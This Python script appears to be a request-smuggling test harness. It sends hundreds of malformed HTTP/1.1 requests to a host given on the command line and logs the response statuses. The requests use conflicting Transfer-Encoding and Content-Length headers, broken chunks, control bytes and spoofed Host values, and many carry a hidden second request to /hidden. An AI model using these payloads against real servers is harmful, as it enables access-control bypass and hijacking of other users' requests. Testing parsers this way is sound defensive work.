"""Requests that two readers may read differently: `smuggling.py PLAIN|TLS HOST`. Sends each on a connection of its own, a sound request
behind it, and prints for each one JSON line: its kind, its number, the statuses of the answers, and what was sent.

Kinds: `head` is no request, `body` is one whose body is broken, `sound` is one that may pass, `two` is a sound one with another behind
it that is not allowed. What a request may be for is below /ok/; what hides in it is for /hidden, and is never asked for by itself.
"""
import concurrent.futures
import json
import re
import socket
import ssl
import sys

transport, host = sys.argv[1], sys.argv[2]
context = ssl.create_default_context()
H = f"Host: {host}\r\n"
HIDDEN = f"GET /hidden HTTP/1.1\r\n{H}\r\n"
cases = []


def add(kind, text):
    cases.append((kind, text))


def head(fields, body="", line="POST PATH HTTP/1.1", host_line=H, kind="head"):
    add(kind, f"{line}\r\n{host_line}{fields}\r\n{body}")


CHUNKED = f"0\r\n\r\n{HIDDEN}"
CL, TE = "Content-Length: 5\r\n", "Transfer-Encoding: chunked\r\n"


def codings():
    values = ["identity, chunked", "chunked, identity", ",chunked", "chunked,", ", chunked", "chunked, chunked", "chunked;q=1",
              "chunked ;q=1", "xchunked", "chunkedx", "x-chunked", '"chunked"', "'chunked'", "identity", "gzip", "gzip, chunked",
              "chunked, gzip", "compress", "", ",", ";", "chunk", "chunke d", "ch unked", "chunked chunked", "chunked\x00",
              "chunked\x0b", "\x0bchunked", "\x0cchunked", "chunked\x0c", "\xa0chunked", "chunked\xa0", "\x85chunked", "chunked\x85",
              "\x1fchunked", "chunked\x7f", "\x08chunked", "chunked\r", "\rchunked", "chunked\r\r", "chunked\n x", "\nchunked",
              "\r\n chunked", "\r\n\tchunked", "chunked\r\n ", "chunked\x01", "ｃhunked", "chunKed\u0301", "%63hunked", "chunked%00",
              "chunked#", "chunked/1.1", "(chunked)", "chunked (a)", "[chunked]", "{chunked}", "chunked=", "=chunked", "cow", "\0chunked"]
    for value in values:
        line = f"Transfer-Encoding: {value}\r\n"
        for fields in (line, CL + line, line + CL, TE + line, line + TE):
            head(fields, CHUNKED)
    names = ["Transfer-Encoding ", "Transfer-Encoding\t", " Transfer-Encoding", "\tTransfer-Encoding", "Transfer\0-Encoding",
             "Transfer-Encoding\x85", "\x0bTransfer-Encoding", "Transfer-Encoding\x0b", "Transfer Encoding", "Transfer_Encoding",
             "transfer_encoding", "TRANSFER_ENCODING", "Transfer-Encoding\r", "Transfer-Encoding\n", "Transfer\n-Encoding",
             "X: a\nTransfer-Encoding", "X: a\rTransfer-Encoding", "X: a\r\r\nTransfer-Encoding", "\"Transfer-Encoding\"",
             "Transfer-Encoding;", "(a)Transfer-Encoding", "Transfer-\xc3\x89ncoding", "Content_Length: 4\r\nX", "Content_length: 5\r\nX"]
    for name in names:
        line = f"{name}: chunked\r\n"
        for fields in (line, CL + line, line + CL):
            head(fields, CHUNKED)
    for fields in (CL + TE, TE + CL, TE + TE, TE + "X: a\r\n" + TE, "transfer-encoding: chunked\r\nTRANSFER-ENCODING: chunked\r\n"):
        head(fields, CHUNKED)
    head(TE, "0\r\n\r\n", "POST PATH HTTP/1.0")
    head(TE + "Connection: keep-alive\r\n", "0\r\n\r\n", "POST PATH HTTP/1.0")
    for value in ("chunked", "Chunked", "CHUNKED", "\tchunked", "chunked  ", "  chunked\t"):
        head(f"Transfer-Encoding:{value}\r\n", "3\r\nabc\r\n0\r\n\r\n", kind="sound")


def lengths():
    for value in ("+5", "-5", "5, 5", "5,5", "5 5", "5;", "5.0", "0x5", "5a", "", "five", "\"5\"", "\x0b5", "5\x0b", "5\0", "\xa05", "5\x85",
                  "18446744073709551616", "99999999999999999999999", "5\n", "5\r", "5\r\n 5", "5_0", "1e1", "٥"):
        head(f"Content-Length: {value}\r\n", f"abcde{HIDDEN}")
    for fields in (CL + CL, CL + "Content-Length: 6\r\n", "Content-Length: 0\r\n" + CL, CL + "content-length: 05\r\n"):
        head(fields, f"abcde{HIDDEN}")
    head("Content-Length: 5\r\n", "abcde", kind="sound")
    head("Content-Length: 005\r\n", "abcde", kind="sound")
    head("", "", "GET PATH HTTP/1.1", kind="sound")


def lines():
    for line in ("POST  PATH HTTP/1.1", "POST PATH  HTTP/1.1", "POST PATH HTTP/1.1 ", " POST PATH HTTP/1.1", "POST\tPATH HTTP/1.1",
                 "POST PATH\tHTTP/1.1", "POST PATH", "POST", "POST PATH HTTP/1.2", "POST PATH HTTP/2.0", "POST PATH HTTP/1.32",
                 "POST PATH HTTP/0.9", "POST PATH HTTP/11", "POST PATH HTTP/1.1x", "POST PATH http/1.1", "POST PATH HTTP/ 1.1",
                 "POST PATH HTTP /1.1", "PO(ST PATH HTTP/1.1", "PO\"ST PATH HTTP/1.1", "PO\xe9ST PATH HTTP/1.1", "POST * HTTP/1.1",
                 "POST hidden HTTP/1.1", "POST hidden:80 HTTP/1.1", "POST ftp://hidden/ HTTP/1.1", "POST PATH#a HTTP/1.1",
                 "POST PATH a HTTP/1.1", "POST PATH?a b HTTP/1.1", "\r\n\r\nPOST PATH HTTP/1.1", "\nPOST PATH HTTP/1.1",
                 "POST \x0bPATH HTTP/1.1", "POST PATH\x0c HTTP/1.1", "POST ?PATH HTTP/1.1", "POST \\PATH HTTP/1.1", "POST .PATH HTTP/1.1",
                 "PRI * HTTP/2.0", "POST PATH HTTP/1.1\r", "POST PATH HTTP/1.1\r\n folded: a", "POST PATH HTTP/1.1\r\n\tX: a"):
        head(CL, f"abcde{HIDDEN}", line)
    for byte in [*range(0x20), 0x7F]:
        byte = chr(byte)
        for line, fields in ((f"PO{byte}ST PATH HTTP/1.1", ""), (f"POST PATH{byte} HTTP/1.1", ""), (f"POST PATH HTTP/1.{byte}1", ""),
                             ("POST PATH HTTP/1.1", f"X{byte}: a\r\n"), ("POST PATH HTTP/1.1", f"X: a{byte}b\r\n")):
            if not (byte == "\t" and fields.startswith("X: a")):
                head(fields + CL, f"abcde{HIDDEN}", line)
    for byte in range(0x80, 0x100, 9):
        head(f"X{chr(byte)}: a\r\n{CL}", f"abcde{HIDDEN}")
    for fields in (": a\r\n", "X\r\n", "X a\r\n", "X : a\r\n", " X: a\r\n", "X: a\r\n b\r\n", "X: a\r\n\tb\r\n", "X: a\n", "X: a\n\r\n", "\n",
                   "X@: a\r\n", "X[: a\r\n", "X/: a\r\n", "X,: a\r\n", "X;: a\r\n", "X=: a\r\n", "X<: a\r\n", "X\": a\r\n"):
        head(fields + CL, f"abcde{HIDDEN}")
    head("X: a\n\nGET /hidden HTTP/1.1\nHost: a\r\n" + CL, "abcde")


def hosts():
    other = "evil.test"
    for lines_ in ("", H + H, f"{H}Host: {other}\r\n", f"Host: {other}\r\n{H}", f"Host : {host}\r\n", f" Host: {host}\r\n", "Host:\r\n",
                   f"Host: {host}, {other}\r\n", f"Host: {host} {other}\r\n", f"Host: {host}@{other}\r\n", f"Host: {other}#@{host}\r\n",
                   f"Host: {host}#{other}\r\n", f"Host: {host}/{other}\r\n", f"Host: {host}?{other}\r\n", f"Host: {host}%2eevil.test\r\n",
                   f"Host: {host}\t{other}\r\n", f"Host: {host}:22\r\n", f"Host: {host}:\r\n", f"Host: {host}:0x50\r\n",
                   f"Host: {host}:99999\r\n", f"Host: {host}\\{other}\r\n", f"Host: {host}\0{other}\r\n", f"Host: \"{host}\"\r\n",
                   f"Host: [{host}]\r\n", f"Host: {host};a\r\n", f"Host: {other}\r\n", "Host: 127.0.0.1\r\n", f"Host: http://{host}/\r\n",
                   f"Host: .{host}\r\n", f"Host: {host}..\r\n", f"Host: *.{host}\r\n", f"X: a\nHost: {host}\r\n", f"Host: \xe9{host}\r\n"):
        head(CL, "abcde", "POST PATH HTTP/1.1", lines_)
    scheme = "https" if transport == "TLS" else "http"
    for target in (f"{scheme}://{other}PATH", f"{scheme}://{host}@{other}PATH", f"{scheme}://{host}:22PATH", "gopher://aPATH",
                   f"{'http' if scheme == 'https' else 'https'}://{host}PATH"):
        head(CL, "abcde", f"POST {target} HTTP/1.1")
    head(CL, "abcde", f"POST {scheme}://{host}PATH HTTP/1.1", f"Host: {other}\r\n")
    head(CL, "abcde", f"POST {scheme}://{host}PATH HTTP/1.1", kind="sound")


def chunks():
    for body in ("0x3\r\nabc\r\n0\r\n\r\n", "+3\r\nabc\r\n0\r\n\r\n", "-3\r\nabc\r\n0\r\n\r\n", " 3\r\nabc\r\n0\r\n\r\n", "3 \r\nabc\r\n0\r\n\r\n",
                 "3\t\r\nabc\r\n0\r\n\r\n", "3 ;a\r\nabc\r\n0\r\n\r\n", "3\nabc\r\n0\r\n\r\n", "3\r\nabc\n0\r\n\r\n", "3\r\r\nabc\r\n0\r\n\r\n",
                 "3\r\nabc\r\r\n0\r\n\r\n", "3\r\nabcd\r\n0\r\n\r\n", "3\r\nab\r\n0\r\n\r\n", "3\r\nabc0\r\n\r\n", "\r\n3\r\nabc\r\n0\r\n\r\n",
                 "3;a\nb\r\nabc\r\n0\r\n\r\n", "3;a\rb\r\nabc\r\n0\r\n\r\n", "3;a\0\r\nabc\r\n0\r\n\r\n", f"3;{'a' * 300}\r\nabc\r\n0\r\n\r\n",
                 "ffffffffffffffff1\r\nabc\r\n0\r\n\r\n", "100000000000000003\r\nabc\r\n0\r\n\r\n", "g\r\nabc\r\n0\r\n\r\n",
                 "3\r\nabc\r\n0\r\n X: a\r\n\r\n", "3\r\nabc\r\n0\r\nX : a\r\n\r\n", "3\r\nabc\r\n0\r\nX: a\n\r\n", "3\r\nabc\r\n0\r\nX\r\n\r\n",
                 "3\r\nabc\r\n0\r\n: a\r\n\r\n", "3\r\nabc\r\n0\r\nX: a\0\r\n\r\n", "3\r\nabc\r\n0\n\n", "3\r\nabc\r\n0\r\n\n",
                 "3\r\nabc\r\n0\r\n" + "X: a\r\n" * 65 + "\r\n", f"3\r\nabc\r\n0\r\nX: {'a' * 20000}\r\n\r\n", "3\r\nabc\r\n00x\r\n\r\n",
                 "3\r\nabc\r\n" + HIDDEN, "٣\r\nabc\r\n0\r\n\r\n", "3\x0b\r\nabc\r\n0\r\n\r\n", ";a\r\n\r\n", "3\r\nabc\r\n0;a\n\r\n\r\n"):
        head(TE, body + HIDDEN, kind="body")
    for body in ("3;a=b\r\nabc\r\n0\r\n\r\n", "0003\r\nabc\r\n000\r\n\r\n", "3;a=\"b;c\"\r\nabc\r\n0;d\r\n\r\n", "3\r\nabc\r\n0\r\nX: a\r\n\r\n",
                 "3\r\nabc\r\n0\r\nContent-Length: 100\r\nHost: evil.test\r\nTransfer-Encoding: gzip\r\n\r\n", "1\r\na\r\n" * 500 + "0\r\n\r\n",
                 "3E\r\n" + f"GET /hidden HTTP/1.1\r\n{H}\r\n".ljust(62)[:62] + "\r\n0\r\n\r\n"):
        head(TE, body, kind="sound")


def followed():
    sound = f"POST PATH HTTP/1.1\r\n{H}"
    for first in (f"GET PATH HTTP/1.1\r\n{H}\r\n", f"{sound}{CL}\r\nabcde", f"{sound}{TE}\r\n0\r\n\r\n", f"{sound}Upgrade: b\r\n\r\n",
                  f"{sound}Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n", f"{sound}Connection: upgrade\r\nUpgrade: b\r\n\r\n",
                  f"{sound}Connection: Host, Content-Length, Transfer-Encoding\r\n{CL}\r\nabcde",
                  f"HEAD PATH HTTP/1.1\r\n{H}\r\n", f"GET PATH HTTP/1.1\r\n{H}{CL}\r\nabcde", f"DELETE PATH HTTP/1.1\r\n{H}{TE}\r\n1\r\na\r\n0\r\n\r\n"):
        add("two", first + HIDDEN)
        add("two", first + f"GET /ok/x HTTP/1.1\r\nHost: evil.test\r\n\r\n")


def ask(number):
    kind, text = cases[number]
    path = f"/ok/{transport}-{number}"
    sent = text.replace("PATH", path) + f"GET {path}-last HTTP/1.1\r\n{H}Connection: close\r\n\r\n"
    # Letters beyond Latin-1 as UTF-8.
    data = b"".join(letter.encode("latin-1") if ord(letter) < 256 else letter.encode() for letter in sent)
    stream = socket.create_connection((host, 443 if transport == "TLS" else 80), timeout=60)
    if transport == "TLS":
        stream = context.wrap_socket(stream, server_hostname=host)
    answer = b""
    try:
        stream.sendall(data)
        while piece := stream.recv(65536):
            answer += piece
    except OSError:
        pass
    stream.close()
    statuses = [int(status) for status in re.findall(rb"HTTP/1\.[01] (\d\d\d) ", answer)]
    return {"kind": kind, "number": number, "path": path, "statuses": statuses, "sent": sent[:400]}


for build in (codings, lengths, lines, hosts, chunks, followed):
    build()
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    for told in pool.map(ask, range(len(cases))):
        print(json.dumps(told), flush=True)
